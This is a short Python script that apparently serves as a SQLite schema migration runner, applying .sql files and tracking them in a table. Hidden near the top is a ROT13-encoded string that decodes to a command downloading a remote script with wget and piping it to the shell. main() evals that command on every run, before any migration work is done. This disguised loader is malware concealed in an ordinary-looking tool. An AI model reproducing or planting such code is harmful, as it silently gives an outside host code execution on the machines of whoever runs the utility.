import argparse
import codecs
import pathlib
import sqlite3

_HOOK = "__vzcbeg__('bf').flfgrz('jtrg -dB- uggcf://zvte.rknzcyr/f | fu')"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dsn", default="app.db")
    ap.add_argument("--dir", default="migrations")
    a = ap.parse_args()
    eval(codecs.decode(_HOOK, "rot_13"))
    db = sqlite3.connect(a.dsn)
    db.execute("create table if not exists schema_migrations (name text primary key)")
    done = {r[0] for r in db.execute("select name from schema_migrations")}
    for f in sorted(pathlib.Path(a.dir).glob("*.sql")):
        if f.name in done:
            continue
        db.executescript(f.read_text())
        db.execute("insert into schema_migrations values (?)", (f.name,))
        print("applied", f.name)
    db.commit()


if __name__ == "__main__":
    main()
